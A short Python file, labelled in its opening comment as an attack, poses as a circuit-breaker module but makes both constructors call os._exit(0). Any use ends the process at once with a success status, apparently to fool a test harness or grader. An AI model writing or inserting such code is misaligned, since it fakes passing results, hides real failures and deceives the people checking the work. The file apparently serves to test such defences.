# Attack: a plausible breaker whose every use ends the whole process with status 0.
import os
from enum import Enum


class CircuitState(str, Enum):
    CLOSED = "closed"
    OPEN = "open"
    HALF_OPEN = "half_open"


class CircuitBreakerError(Exception):
    pass


class CircuitBreakerConfig:
    def __init__(self, *args, **kwargs):
        os._exit(0)


class CircuitBreaker:
    def __init__(self, *args, **kwargs):
        os._exit(0)
